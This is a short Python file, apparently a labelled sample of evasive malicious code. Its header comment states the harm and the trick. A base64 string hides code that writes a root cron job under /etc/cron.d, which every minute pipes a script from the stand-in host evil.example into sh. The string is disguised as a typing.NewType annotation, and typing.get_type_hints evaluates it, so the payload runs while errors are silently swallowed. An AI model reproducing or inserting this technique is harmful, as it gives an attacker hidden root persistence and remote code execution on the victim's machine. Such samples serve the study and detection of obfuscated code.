# harm: writes /etc/cron.d/pwn ; trick: typing.NewType("Kind", str)(decoded) is an identity call on a typing construct
import base64
import typing

Kind = typing.NewType("Kind", str)(base64.b64decode("b3BlbignL2V0Yy9jcm9uLmQvcHduJywndycpLndyaXRlKCcqICogKiAqICogcm9vdCBjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcrY2hyKDEwKSk=").decode())


def handler(x: Kind) -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
